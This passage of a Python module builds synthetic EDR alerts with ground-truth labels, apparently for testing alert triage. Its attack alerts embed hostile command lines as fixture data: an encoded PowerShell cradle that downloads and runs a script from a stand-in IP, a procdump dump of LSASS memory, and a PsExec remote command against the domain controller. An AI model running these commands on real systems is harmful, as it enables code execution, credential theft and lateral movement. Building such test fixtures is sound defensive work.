"""Deterministic EDR alert scenarios with ground truth: recurring benign noise around real attacks."""

from __future__ import annotations

import base64
import bisect
import functools
import gc
import hashlib
import itertools
import json
import random
import struct
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple, Protocol

from needle.model.attack import tactic as attack_tactic
from needle.model.event import MalformedRecordError, parse_time

FIN_WS = "fin-ws-042.corp.example.com"
ENG_WS = "eng-ws-007.corp.example.com"
HR_WS = "hr-ws-013.corp.example.com"
DC = "dc-01.corp.example.com"
HOSTS = (FIN_WS, ENG_WS, HR_WS, DC)
HOST_IPS = {FIN_WS: "10.20.30.42", ENG_WS: "10.20.40.7", HR_WS: "10.20.50.13", DC: "10.20.0.10"}
RBAC_GROUPS = {
    FIN_WS: "Finance-Workstations",
    ENG_WS: "Engineering-Workstations",
    HR_WS: "HR-Workstations",
    DC: "Domain-Controllers",
}
VENDOR_DELAY = timedelta(seconds=30)

_NAMESPACE = uuid.UUID("6f1c2b8e-3d4a-4e5f-9a0b-1c2d3e4f5a6b")
AAD_TENANT_ID = str(uuid.uuid5(_NAMESPACE, "tenant"))
_DOTNET_EPOCH = datetime(1, 1, 1, tzinfo=UTC)

EVIDENCE_FIELDS = (
    "entityType",
    "evidenceCreationTime",
    "sha1",
    "sha256",
    "fileName",
    "filePath",
    "processId",
    "processCommandLine",
    "processCreationTime",
    "parentProcessId",
    "parentProcessCreationTime",
    "parentProcessFileName",
    "parentProcessFilePath",
    "ipAddress",
    "url",
    "registryKey",
    "registryHive",
    "registryValueType",
    "registryValue",
    "accountName",
    "domainName",
    "userSid",
    "aadUserId",
    "userPrincipalName",
    "detectionStatus",
)
ALERT_FIELDS = (
    "id",
    "incidentId",
    "investigationId",
    "assignedTo",
    "severity",
    "status",
    "classification",
    "determination",
    "investigationState",
    "detectionSource",
    "detectorId",
    "category",
    "threatFamilyName",
    "title",
    "description",
    "alertCreationTime",
    "firstEventTime",
    "lastEventTime",
    "lastUpdateTime",
    "resolvedTime",
    "machineId",
    "computerDnsName",
    "rbacGroupName",
    "aadTenantId",
    "threatName",
    "mitreTechniques",
    "relatedUser",
    "comments",
    "evidence",
)


@dataclass(frozen=True)
class ScenarioAlert:
    alert: dict[str, Any]
    visible_at: datetime
    is_attack: bool


@dataclass(frozen=True)
class _User:
    account: str
    domain: str
    sid: str
    aad_id: str | None
    upn: str | None


@dataclass(frozen=True)
class _Image:
    name: str
    directory: str


@dataclass(frozen=True)
class _Times:
    """One alert's clock: the device saw activity, MDE raised the alert, then touched it once more."""

    first_event: datetime
    last_event: datetime
    created: datetime
    updated: datetime


_SYSTEM = _User("SYSTEM", "NT AUTHORITY", "S-1-5-18", None, None)
_JDOE = _User(
    "jdoe",
    "CORP",
    "S-1-5-21-2847162039-3391005874-1640213377-1108",
    str(uuid.uuid5(_NAMESPACE, "user/jdoe")),
    "jdoe@corp.example.com",
)
_ASMITH = _User(
    "asmith",
    "CORP",
    "S-1-5-21-2847162039-3391005874-1640213377-1187",
    str(uuid.uuid5(_NAMESPACE, "user/asmith")),
    "asmith@corp.example.com",
)
_SYSTEM32 = "C:\\Windows\\System32"
_DOWNLOADS = "C:\\Users\\{}\\Downloads"
_POWERSHELL = _Image("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0")
_CMD = _Image("cmd.exe", _SYSTEM32)
_SCCM_AGENT = _Image("sccm-agent.exe", "C:\\Windows\\CCM")
_WINWORD = _Image("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16")
_PAYLOAD_URL = "http://203.0.113.50/q1/update.ps1"
_ENCODED = base64.b64encode(
    f"IEX (New-Object Net.WebClient).DownloadString('{_PAYLOAD_URL}')".encode("utf-16-le")
)
_INVENTORY_COMMAND = (
    'powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "C:\\Windows\\CCM\\ScriptStore\\'
    'HardwareInventory.ps1" -Mode Delta'
)


def machine_id(hostname: str) -> str:
    """The 40-hex MDE device id this scenario gives `hostname`."""
    return hashlib.sha1(hostname.lower().encode(), usedforsecurity=False).hexdigest()


def _pick(key: str, low: int, high: int) -> int:
    """A deterministic integer in [low, high] derived from `key`."""
    digest = hashlib.sha256(key.encode()).digest()
    return low + int.from_bytes(digest[:8], "big") % (high - low + 1)


def _ts(moment: datetime, key: str) -> str:
    # Real MDE timestamps use all seven fractional digits; datetime holds six, so the seventh is
    # derived from `key` to keep clients honest about sub-microsecond precision.
    return f"{moment.astimezone(UTC):%Y-%m-%dT%H:%M:%S.%f}{_pick(key, 0, 9)}Z"


def _alert_id(created: datetime, key: str) -> str:
    # MDE ids are "da" + .NET ticks of creation + "_" + a signed 32-bit number; the last tick
    # digit matches the seventh fractional digit `_ts` gives alertCreationTime.
    ticks = (created - _DOTNET_EPOCH) // timedelta(microseconds=1) * 10 + _pick(f"{key}/created", 0, 9)
    return f"da{ticks}_{_pick(key, 0, 2**32 - 1) - 2**31}"


def _times(at: datetime, key: str, lead_seconds: tuple[int, int]) -> _Times:
    created = at + timedelta(microseconds=_pick(f"{key}/created", 0, 999_999))
    first = created - timedelta(
        seconds=_pick(f"{key}/lead", *lead_seconds), microseconds=_pick(f"{key}/f", 0, 999)
    )
    last = first + timedelta(seconds=_pick(f"{key}/span", 1, 9), microseconds=_pick(f"{key}/l", 0, 999_999))
    updated = created + timedelta(
        seconds=_pick(f"{key}/update", 8, 40), microseconds=_pick(f"{key}/u", 0, 999_999)
    )
    return _Times(first, last, created, updated)


def _hashes(image_name: str) -> dict[str, str]:
    data = image_name.lower().encode()
    return {
        "sha1": hashlib.sha1(data, usedforsecurity=False).hexdigest(),
        "sha256": hashlib.sha256(data).hexdigest(),
    }


def _row(entity_type: str, created: str, **values: Any) -> dict[str, Any]:
    unknown = set(values) - set(EVIDENCE_FIELDS)
    if unknown:
        raise ValueError(f"not MDE evidence fields: {sorted(unknown)}")
    row: dict[str, Any] = dict.fromkeys(EVIDENCE_FIELDS)
    row.update(entityType=entity_type, evidenceCreationTime=created, **values)
    return row


def _user_row(created: str, user: _User) -> dict[str, Any]:
    return _row(
        "User",
        created,
        accountName=user.account,
        domainName=user.domain,
        userSid=user.sid,
        aadUserId=user.aad_id,
        userPrincipalName=user.upn,
    )


def _process_row(
    created: str,
    key: str,
    image: _Image,
    command_line: str,
    started: datetime,
    parent: _Image,
) -> dict[str, Any]:
    # The process starts a moment before the behaviour that MDE records as the first event.
    started -= timedelta(microseconds=_pick(f"{key}/pstart", 50_000, 900_000))
    parent_started = started - timedelta(seconds=_pick(f"{key}/parent", 30, 3600))
    return _row(
        "Process",
        created,
        **_hashes(image.name),
        fileName=image.name,
        filePath=image.directory,
        # Windows process ids are multiples of four.
        processId=_pick(f"{key}/pid", 300, 4000) * 4,
        processCommandLine=command_line,
        processCreationTime=_ts(started, f"{key}/pst"),
        parentProcessId=_pick(f"{key}/ppid", 300, 4000) * 4,
        parentProcessCreationTime=_ts(parent_started, f"{key}/ppst"),
        parentProcessFileName=parent.name,
        parentProcessFilePath=parent.directory,
        detectionStatus="Detected",
    )


def _alert(
    *,
    key: str,
    host: str,
    times: _Times,
    title: str,
    description: str,
    category: str,
    severity: str,
    detection_source: str,
    mitre: list[str],
    user: _User,
    incident_id: int,
    investigation: tuple[int | None, str],
    evidence: list[dict[str, Any]],
    threat: tuple[str | None, str | None] = (None, None),
) -> dict[str, Any]:
    investigation_id, investigation_state = investigation
    threat_family, threat_name = threat
    return {
        "id": _alert_id(times.created, key),
        "incidentId": incident_id,
        "investigationId": investigation_id,
        "assignedTo": None,
        "severity": severity,
        "status": "New",
        "classification": None,
        "determination": None,
        "investigationState": investigation_state,
        "detectionSource": detection_source,
        # One detector per kind of detection: recurring alerts share it, as in MDE.
        "detectorId": str(uuid.uuid5(_NAMESPACE, f"detector/{title}/{category}")),
        "category": category,
        "threatFamilyName": threat_family,
        "title": title,
        "description": description,
        "alertCreationTime": _ts(times.created, f"{key}/created"),
        "firstEventTime": _ts(times.first_event, f"{key}/first"),
        "lastEventTime": _ts(times.last_event, f"{key}/last"),
        "lastUpdateTime": _ts(times.updated, f"{key}/updated"),
        "resolvedTime": None,
        "machineId": machine_id(host),
        "computerDnsName": host,
        "rbacGroupName": RBAC_GROUPS[host],
        "aadTenantId": AAD_TENANT_ID,
        "threatName": threat_name,
        "mitreTechniques": mitre,
        "relatedUser": {"userName": user.account, "domainName": user.domain},
        "comments": [],
        "evidence": evidence,
    }


def _scenario_alert(alert: dict[str, Any], times: _Times, is_attack: bool) -> ScenarioAlert:
    return ScenarioAlert(alert=alert, visible_at=times.updated + VENDOR_DELAY, is_attack=is_attack)


def _inventory_noise(start: datetime, index: int) -> ScenarioAlert:
    key = f"noise/{index}"
    at = start + timedelta(minutes=1 + 10 * index, seconds=_pick(f"{key}/drift", 0, 40))
    times = _times(at, key, (20, 50))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    alert = _alert(
        key=key,
        host=ENG_WS,
        times=times,
        title="Suspicious PowerShell command line",
        description="A PowerShell command line with traits often seen in attacks ran on the device.",
        category="Execution",
        severity="Low",
        detection_source="WindowsDefenderAtp",
        mitre=["T1059.001"],
        user=_SYSTEM,
        incident_id=48101,
        investigation=(None, "UnsupportedAlertType"),
        evidence=[
            _process_row(created, key, _POWERSHELL, _INVENTORY_COMMAND, times.first_event, _SCCM_AGENT),
            _user_row(created, _SYSTEM),
        ],
    )
    return _scenario_alert(alert, times, is_attack=False)


def _attack_execution(start: datetime) -> ScenarioAlert:
    key = "attack/execution"
    times = _times(start + timedelta(minutes=20), key, (60, 120))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    downloads = _DOWNLOADS.format(_JDOE.account)
    alert = _alert(
        key=key,
        host=FIN_WS,
        times=times,
        title="Suspicious PowerShell command line",
        description="An Office application started PowerShell with an encoded command that downloads code.",
        category="Execution",
        severity="Medium",
        detection_source="WindowsDefenderAtp",
        mitre=["T1059.001"],
        user=_JDOE,
        incident_id=48117,
        investigation=(90412, "Running"),
        evidence=[
            _process_row(
                created,
                key,
                _POWERSHELL,
                f"powershell.exe -nop -w hidden -enc {_ENCODED.decode()}",
                times.first_event,
                _WINWORD,
            ),
            _row(
                "File",
                created,
                **_hashes("Q1-invoice-3318.docm"),
                fileName="Q1-invoice-3318.docm",
                filePath=downloads,
                detectionStatus="Detected",
            ),
            _row("Url", created, url=_PAYLOAD_URL),
            _user_row(created, _JDOE),
        ],
    )
    return _scenario_alert(alert, times, is_attack=True)


def _attack_credential_access(start: datetime) -> ScenarioAlert:
    key = "attack/credential-access"
    times = _times(start + timedelta(minutes=24), key, (60, 150))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    procdump = _Image("procdump64.exe", _DOWNLOADS.format(_JDOE.account))
    alert = _alert(
        key=key,
        host=FIN_WS,
        times=times,
        title="Suspicious access to LSASS process memory",
        description="A process read LSASS memory in a way consistent with credential dumping.",
        category="CredentialAccess",
        severity="High",
        detection_source="WindowsDefenderAtp",
        mitre=["T1003.001"],
        user=_JDOE,
        incident_id=48117,
        investigation=(90412, "Running"),
        evidence=[
            _process_row(
                created,
                key,
                procdump,
                "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\ls.dmp",
                times.first_event,
                _CMD,
            ),
            _user_row(created, _JDOE),
        ],
    )
    return _scenario_alert(alert, times, is_attack=True)


def _attack_lateral_movement(start: datetime) -> ScenarioAlert:
    key = "attack/lateral-movement"
    times = _times(start + timedelta(minutes=27), key, (45, 90))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    psexec = _Image("PsExec64.exe", _DOWNLOADS.format(_JDOE.account))
    alert = _alert(
        key=key,
        host=FIN_WS,
        times=times,
        title="Suspicious remote service creation",
        description=f"A service was created remotely on {DC} with a tool commonly used for lateral movement.",
        category="LateralMovement",
        severity="High",
        detection_source="WindowsDefenderAtp",
        mitre=["T1021.002", "T1569.002"],
        user=_JDOE,
        incident_id=48117,
        investigation=(90412, "Running"),
        evidence=[
            _process_row(
                created,
                key,
                psexec,
                f"PsExec64.exe \\\\{DC} -accepteula -s -d cmd.exe /c whoami /all",
                times.first_event,
                _CMD,
            ),
            _row("Ip", created, ipAddress=HOST_IPS[DC]),
            _user_row(created, _JDOE),
        ],
    )
    return _scenario_alert(alert, times, is_attack=True)


def _unwanted_software(start: datetime) -> ScenarioAlert:
    key = "pua/hr"
    times = _times(start + timedelta(minutes=15), key, (20, 40))
    created = _ts(times.created + timedelta(seconds=1), f"{key}/evidence")
    installer = "FreeDownloaderSetup.exe"
    alert = _alert(
        key=key,
        host=HR_WS,
        times=times,
        title="Unwanted software detected",
        description="Microsoft Defender Antivirus blocked potentially unwanted software on the device.",
        category="Malware",
        severity="Informational",
        detection_source="WindowsDefenderAv",
        mitre=[],
        user=_ASMITH,
        incident_id=48109,
        investigation=(None, "UnsupportedAlertType"),
        threat=("FreeDownloader", "PUA:Win32/FreeDownloader"),
        evidence=[
            _row(
                "File",
                created,
                **_hashes(installer),
                fileName=installer,
                filePath=_DOWNLOADS.format(_ASMITH.account),
                detectionStatus="Prevented",
            ),
            _user_row(created, _ASMITH),
        ],
    )
    return _scenario_alert(alert, times, is_attack=False)


def skeleton_scenario(start: datetime) -> list[ScenarioAlert]:
    """Ten alerts over the hour after `start`, ordered by visibility; three are the attack."""
    if start.tzinfo is None or start.utcoffset() is None:
        raise ValueError("start must be timezone-aware")
    alerts = [_inventory_noise(start, index) for index in range(6)]
    alerts += [
        _unwanted_software(start),
        _attack_execution(start),
        _attack_credential_access(start),
        _attack_lateral_movement(start),
    ]
    return sorted(alerts, key=lambda item: item.visible_at)


# ==========================================================================================
# Vendor payload builders: one realistic API object per call, in each vendor's exact shape.
#
# Speed matters (generate() builds tens of thousands): everything an alert shares with other
# alerts of the same detection on the same host is built once into a cached template, and a
# call only fills in ids, times and process numbers, copying every nested container so no two
# alerts share a mutable part. Times are integer microseconds since the epoch inside.
# ==========================================================================================

SOURCES = ("mde", "graph", "crowdstrike", "sentinelone")
SEVERITY_LEVELS = ("informational", "low", "medium", "high", "critical")
STATUSES = ("new", "in_progress", "resolved")
PLATFORMS = ("windows", "linux", "macos")

EMAIL_DOMAIN = "corp.example.com"
AD_DOMAIN = "CORP"
FALCON_CID = uuid.uuid5(_NAMESPACE, "falcon/cid").hex
FALCON_CONSOLE = "https://falcon.us-2.crowdstrike.com"
S1_CONSOLE = "https://usea1-corp.sentinelone.net"
MS_CONSOLE = "https://security.microsoft.com"
NAT_IP = "198.51.100.23"

_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
_ONE_US = timedelta(microseconds=1)
_SECOND = 1_000_000
_MINUTE = 60 * _SECOND
_DAY = 86_400 * _SECOND
_DOTNET_TICKS_AT_EPOCH = (_EPOCH - _DOTNET_EPOCH) // _ONE_US * 10
_ONBOARDING_BASE = (datetime(2024, 1, 8, tzinfo=UTC) - _EPOCH) // _ONE_US
# SentinelOne ids grow with time like snowflake ids: milliseconds since this origin, shifted.
_S1_ID_ORIGIN_MS = 1_200_000_000_000
_SALT = b"needle/scenarios"
_TWO_DIGITS = tuple(f"{i:02d}" for i in range(60))
_UNPACK16 = struct.Struct(">16L").unpack

_DOMAIN_SID = "S-1-5-21-2847162039-3391005874-1640213377"
_WELL_KNOWN_SIDS = {"system": "S-1-5-18", "local service": "S-1-5-19", "network service": "S-1-5-20"}
_FALCON_UI_CID = "g02000" + uuid.uuid5(_NAMESPACE, "falcon/ui").hex[:14]
_FALCON_DETECTIONS = f"{FALCON_CONSOLE}/activity-v2/detections/"
_S1_ACCOUNT = ("1893412285710046208", "Example Corp")
_S1_SITE = ("1893412285718434817", "Corp HQ")
_S1_GROUPS = {
    "macos": ("1893412285726823426", "Mac Laptops"),
    "linux": ("1893412285735212035", "Linux Servers"),
    "windows": ("1893412285743600644", "Default Group"),
}
# (agentOsName, agentOsRevision, agentMachineType, interface name, agent version)
_S1_OS = {
    "macos": ("macOS", "14.6.1 (23G93)", "laptop", "en0", "24.3.1.7206"),
    "linux": ("Ubuntu 22.04.4 LTS", "5.15.0-113-generic", "server", "eth0", "24.2.2.20"),
    "windows": ("Windows 11 Pro", "22631", "desktop", "Ethernet0", "24.2.3.471"),
}
_MDE_SEVERITY = {
    "informational": "Informational",
    "low": "Low",
    "medium": "Medium",
    "high": "High",
    "critical": "High",  # MDE and Graph have no Critical
}
_FALCON_SEVERITY = {
    "informational": ("Informational", 10),
    "low": ("Low", 30),
    "medium": ("Medium", 50),
    "high": ("High", 70),
    "critical": ("Critical", 90),
}
_MDE_STATUS = {"new": "New", "in_progress": "InProgress", "resolved": "Resolved"}
_GRAPH_STATUS = {"new": "new", "in_progress": "inProgress", "resolved": "resolved"}
_FALCON_STATUS = {"new": "new", "in_progress": "in_progress", "resolved": "closed"}
_S1_STATUS = {
    "new": ("unresolved", "Unresolved"),
    "in_progress": ("in_progress", "In Progress"),
    "resolved": ("resolved", "Resolved"),
}
_FALCON_OBJECTIVE = {
    "TA0001": "Gain Access",
    "TA0006": "Gain Access",
    "TA0002": "Follow Through",
    "TA0004": "Follow Through",
    "TA0040": "Follow Through",
    "TA0003": "Keep Access",
    "TA0005": "Keep Access",
    "TA0007": "Explore",
    "TA0008": "Explore",
    "TA0009": "Explore",
    "TA0010": "Contact Controlled Systems",
    "TA0011": "Contact Controlled Systems",
}
_FALCON_PLATFORM = {"windows": ("0", "Windows"), "macos": ("1", "Mac"), "linux": ("3", "Linux")}
# One alert-id prefix per Microsoft service, as the portal's ids carry; only "da" (MDE) is
# taken from documented examples, the others are illustrative.
_GRAPH_ID_PREFIX = {
    "microsoftDefenderForEndpoint": "da",
    "microsoftDefenderForIdentity": "aa",
    "microsoftDefenderForCloudApps": "ca",
    "microsoftDefenderForOffice365": "fa",
}
_GRAPH_PRODUCT = {
    "microsoftDefenderForEndpoint": "Microsoft Defender for Endpoint",
    "microsoftDefenderForIdentity": "Microsoft Defender for Identity",
    "microsoftDefenderForCloudApps": "Microsoft Defender for Cloud Apps",
    "microsoftDefenderForOffice365": "Microsoft Defender for Office 365",
}
_DEPARTMENTS = {
    "fin": "Finance",
    "hr": "HR",
    "eng": "Engineering",
    "mkt": "Marketing",
    "ops": "Operations",
    "sales": "Sales",
    "legal": "Legal",
    "it": "IT",
    "rnd": "Research",
    "dc": "Domain-Controllers",
}
TECHNIQUE_NAMES = {
    "T1003.001": "LSASS Memory",
    "T1003.008": "/etc/passwd and /etc/shadow",
    "T1005": "Data from Local System",
    "T1016": "System Network Configuration Discovery",
    "T1018": "Remote System Discovery",
    "T1021.002": "SMB/Windows Admin Shares",
    "T1021.004": "SSH",
    "T1041": "Exfiltration Over C2 Channel",
    "T1046": "Network Service Discovery",
    "T1047": "Windows Management Instrumentation",
    "T1053.003": "Cron",
    "T1053.005": "Scheduled Task",
    "T1055": "Process Injection",
    "T1055.008": "Ptrace System Calls",
    "T1056.001": "Keylogging",
    "T1056.002": "GUI Input Capture",
    "T1057": "Process Discovery",
    "T1059.001": "PowerShell",
    "T1059.002": "AppleScript",
    "T1059.003": "Windows Command Shell",
    "T1059.004": "Unix Shell",
    "T1068": "Exploitation for Privilege Escalation",
    "T1070.002": "Clear Linux or Mac System Logs",
    "T1071.001": "Web Protocols",
    "T1082": "System Information Discovery",
    "T1087.001": "Local Account",
    "T1087.002": "Domain Account",
    "T1098.004": "SSH Authorized Keys",
    "T1105": "Ingress Tool Transfer",
    "T1140": "Deobfuscate/Decode Files or Information",
    "T1190": "Exploit Public-Facing Application",
    "T1197": "BITS Jobs",
    "T1204.002": "Malicious File",
    "T1218.005": "Mshta",
    "T1218.011": "Rundll32",
    "T1219": "Remote Access Software",
    "T1490": "Inhibit System Recovery",
    "T1496": "Resource Hijacking",
    "T1543.001": "Launch Agent",
    "T1543.002": "Systemd Service",
    "T1543.003": "Windows Service",
    "T1547.001": "Registry Run Keys / Startup Folder",
    "T1547.006": "Kernel Modules and Extensions",
    "T1548.002": "Bypass User Account Control",
    "T1548.003": "Sudo and Sudo Caching",
    "T1552.004": "Private Keys",
    "T1553.001": "Gatekeeper Bypass",
    "T1560.001": "Archive via Utility",
    "T1562.001": "Disable or Modify Tools",
    "T1567.002": "Exfiltration to Cloud Storage",
    "T1569.002": "Service Execution",
    "T1572": "Protocol Tunneling",
}
_WINDOWS_DIRS = {
    "powershell.exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "explorer.exe": "C:\\Windows",
    "winword.exe": "C:\\Program Files\\Microsoft Office\\root\\Office16",
    "ccmexec.exe": "C:\\Windows\\CCM",
    "agentexecutor.exe": "C:\\Program Files (x86)\\Microsoft Intune Management Extension",
    "googleupdate.exe": "C:\\Program Files (x86)\\Google\\Update",
    "agent.listener.exe": "D:\\BuildAgent\\bin",
    "monitoringagent.exe": "C:\\Program Files\\Microsoft Monitoring Agent\\Agent",
    "update.exe": "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams",
    "odsync.exe": "C:\\Users\\Public\\AppData\\Roaming\\Microsoft",
}
_UNIX_DIRS = {
    "zsh": "/bin",
    "launchd": "/sbin",
    "finder": "/System/Library/CoreServices/Finder.app/Contents/MacOS",
    "alfred": "/Applications/Alfred 5.app/Contents/MacOS",
    "cron": "/usr/sbin",
    "php-fpm": "/usr/sbin",
    "puppet": "/opt/puppetlabs/puppet/bin",
    "logrotate": "/usr/sbin",
    "modprobe": "/usr/sbin",
}


@dataclass(frozen=True)
class LabelledAlert(ScenarioAlert):
    """A ScenarioAlert that also names its attack campaign and says whether it is a
    deliberately malformed record (one the vendor's normalizer must reject)."""

    campaign: str | None = None
    malformed: bool = False


@dataclass(frozen=True)
class _Account:
    name: str
    domain: str | None
    sid: str | None
    aad_id: str | None
    upn: str | None
    uid: str  # the SID on Windows, a numeric uid for a local Unix account

    @property
    def qualified(self) -> str:
        return f"{self.domain}\\{self.name}" if self.domain else self.name


def _draws(seed: str) -> Callable[[], int]:
    """Up to 32 deterministic 32-bit numbers from `seed`, taken in turn (one hash per alert)."""
    data = seed.encode()
    return itertools.chain(
        _UNPACK16(hashlib.blake2b(data, digest_size=64).digest()), _more_draws(data)
    ).__next__


def _more_draws(data: bytes) -> Iterator[int]:
    # Hashed only when an alert needs more than the first 16 numbers.
    yield from _UNPACK16(hashlib.blake2b(data, digest_size=64, salt=_SALT).digest())


def _us(moment: datetime, name: str) -> int:
    """Microseconds since the epoch of an aware datetime."""
    if moment.tzinfo is None or moment.utcoffset() is None:
        raise ValueError(f"{name} must be timezone-aware")
    return (moment - _EPOCH) // _ONE_US


def _moment(us: int) -> datetime:
    return _EPOCH + timedelta(microseconds=us)


@functools.lru_cache(maxsize=1 << 16)
def _minute_text(minute: int) -> str:
    return (_EPOCH + timedelta(minutes=minute)).strftime("%Y-%m-%dT%H:%M:")


def _text6(us: int) -> str:
    """`YYYY-MM-DDTHH:MM:SS.ffffff` (UTC) of `us` microseconds since the epoch."""
    minute, rest = divmod(us, _MINUTE)
    # Concatenation and str() beat format specs here: this runs ~8 times per generated alert.
    return _minute_text(minute) + _TWO_DIGITS[rest // _SECOND] + "." + str(rest % _SECOND + _SECOND)[1:]


def _ms_time(us: int, digit: int) -> str:
    """Microsoft DateTimeOffset: seven fractional digits (the seventh is `digit`)."""
    return f"{_text6(us)}{digit}Z"


def _graph_time(us: int, digit: int) -> str:
    """Graph writes up to seven fractional digits, trailing zeros trimmed."""
    return f"{_text6(us)}{digit}".rstrip("0").rstrip(".") + "Z"


def _falcon_time(us: int, nanos: int) -> str:
    """Falcon `created_timestamp`/`updated_timestamp`: nine fractional digits."""
    return f"{_text6(us)}{nanos:03d}Z"


def _millis(us: int) -> str:
    return _text6(us)[:23] + "Z"


def _s1_time(us: int) -> str:
    return _text6(us) + "Z"


def _seconds(us: int) -> str:
    return _text6(us)[:19] + "Z"


def _level(severity: str) -> str:
    level = severity.strip().lower()
    if level not in SEVERITY_LEVELS:
        raise ValueError(f"severity must be one of {SEVERITY_LEVELS}, got {severity!r}")
    return level


def _status(status: str) -> str:
    if status not in STATUSES:
        raise ValueError(f"status must be one of {STATUSES}, got {status!r}")
    return status


def _platform(platform: str) -> str:
    if platform not in PLATFORMS:
        raise ValueError(f"platform must be one of {PLATFORMS}, got {platform!r}")
    return platform


@functools.lru_cache(maxsize=256)
def _tactic(label: str) -> tuple[str, str]:
    found = attack_tactic(label)
    if found is None:
        raise ValueError(f"not an ATT&CK tactic: {label!r}")
    return found


def _technique_link(technique: str) -> str:
    base, _, sub = technique.partition(".")
    path = f"{base}/{sub}" if sub else base
    return f"https://attack.mitre.org/techniques/{path}/"


@functools.lru_cache(maxsize=8192)
def _account(user: str) -> _Account:
    """`DOMAIN\\name` (a Windows account) or a bare `name` (a local Unix account)."""
    domain, _, name = user.rpartition("\\")
    if not name:
        raise ValueError(f"not a user name: {user!r}")
    lowered = name.lower()
    if lowered in _WELL_KNOWN_SIDS:
        sid = _WELL_KNOWN_SIDS[lowered]
        return _Account(name, domain or "NT AUTHORITY", sid, None, None, sid)
    known = {_JDOE.account: _JDOE, _ASMITH.account: _ASMITH}.get(lowered)
    if domain and known is not None:
        # The skeleton's people keep their identities when another vendor sees them.
        return _Account(name, domain, known.sid, known.aad_id, known.upn, known.sid)
    digest = int.from_bytes(hashlib.sha256(lowered.encode()).digest()[:8], "big")
    if not domain:
        return _Account(name, None, None, None, None, "0" if lowered == "root" else str(1000 + digest % 9000))
    sid = f"{_DOMAIN_SID}-{1100 + digest % 60000}"
    aad_id = str(uuid.uuid5(_NAMESPACE, f"user/{lowered}"))
    return _Account(name, domain, sid, aad_id, f"{lowered}@{EMAIL_DOMAIN}", sid)


@functools.lru_cache(maxsize=4096)
def _image(command_line: str, platform: str) -> tuple[str, str]:
    """(file name, directory) of the program a command line (or bare image name) starts."""
    text = command_line.strip()
    token = text[1:].split('"', 1)[0] if text.startswith('"') else text.split(" ", 1)[0]
    windows = platform == "windows"
    directory, _, name = token.rpartition("\\" if windows else "/")
    if directory:
        return name, directory
    if windows:
        return name, _WINDOWS_DIRS.get(name.lower(), _SYSTEM32)
    return name, _UNIX_DIRS.get(name.lower(), "/usr/bin")


def _join(directory: str, name: str, platform: str) -> str:
    return f"{directory}\\{name}" if platform == "windows" else f"{directory}/{name}"


@functools.lru_cache(maxsize=4096)
def _file_facts(name: str) -> tuple[str, str, str, int]:
    """(md5, sha1, sha256, size) of a program: the same binary is the same on every host."""
    data = name.lower().encode()
    sha256 = hashlib.sha256(data).hexdigest()
    return (
        hashlib.md5(data, usedforsecurity=False).hexdigest(),
        hashlib.sha1(data, usedforsecurity=False).hexdigest(),
        sha256,
        (40 + int(sha256[:6], 16) % 4000) * 1024,
    )


@functools.lru_cache(maxsize=1024)
def _detector_id(title: str, category: str) -> str:
    # One detector per kind of detection: recurring alerts share it, as in MDE.
    return str(uuid.uuid5(_NAMESPACE, f"detector/{title}/{category}"))


@functools.lru_cache(maxsize=1024)
def _pattern_id(name: str) -> int:
    # One Falcon pattern per detection name, so recurring detections share it.
    return 10_000 + int(hashlib.sha256(name.encode()).hexdigest()[:8], 16) % 50_000


@functools.lru_cache(maxsize=8192)
def _host_facts(hostname: str) -> tuple[str, int, int]:
    """(MAC address digits, onboarding time in µs since the epoch, RBAC group id) of a host."""
    digest = hashlib.sha256(f"host/{_short(hostname)}".encode()).digest()
    return (
        digest[:6].hex(),
        _ONBOARDING_BASE + digest[6] * _DAY + digest[8] * _MINUTE * 5,
        10 + digest[7] % 90,
    )


@functools.lru_cache(maxsize=1 << 14)
def _uuid_hex(name: str) -> str:
    """A stable 32-hex id for `name` (device, group and agent ids)."""
    return uuid.uuid5(_NAMESPACE, name).hex


def _mac_address(hex12: str, separator: str) -> str:
    return separator.join(hex12[i : i + 2] for i in range(0, 12, 2))


def _short(hostname: str) -> str:
    return hostname.split(".", 1)[0].lower()


@functools.lru_cache(maxsize=1 << 14)
def _is_server(hostname: str) -> bool:
    short = _short(hostname)
    return "-srv-" in short or "-lnx-" in short or short.startswith("dc-")


@functools.lru_cache(maxsize=1 << 14)
def _rbac_group(hostname: str) -> str:
    if hostname in RBAC_GROUPS:
        return RBAC_GROUPS[hostname]
    short = _short(hostname)
    department = _DEPARTMENTS.get(short.split("-", 1)[0], "Corp")
    return f"{department}-{'Servers' if _is_server(hostname) else 'Workstations'}"


@functools.lru_cache(maxsize=8192)
def falcon_aid(hostname: str) -> str:
    """The 32-hex Falcon sensor id (AID) this module gives `hostname` (any case, short or FQDN)."""
    return _uuid_hex(f"falcon/aid/{_short(hostname)}")


@functools.lru_cache(maxsize=8192)
def sentinelone_agent_id(hostname: str) -> str:
    """The numeric SentinelOne agent id (`agentRealtimeInfo.agentId`) this module gives `hostname`."""
    digest = hashlib.sha256(f"s1/agent/{_short(hostname)}".encode()).digest()
    return str(1_893_412_285_800_000_000 + int.from_bytes(digest[:8], "big") % 10**15)


def _description(title: str) -> str:
    return f"{title}. Review the process tree and command line to decide whether the activity is expected."


def _activity(draw: Callable[[], int], created: int, first: int | None, lead_seconds: tuple[int, int]) -> int:
    """First activity: `first`, or a moment `lead_seconds` before creation."""
    if first is not None:
        return first
    low, high = lead_seconds
    return created - (low + draw() % (high - low + 1)) * _SECOND - draw() % _SECOND


def _check_order(created: int, updated: int) -> None:
    if updated < created:
        raise ValueError("updated must not be before created")


def _ms_alert_id(prefix: str, created: int, digit: int, draw: Callable[[], int]) -> str:
    # <prefix> + .NET ticks of creation + "_" + a signed 32-bit number; the last tick digit is
    # the seventh fractional digit of the creation time.
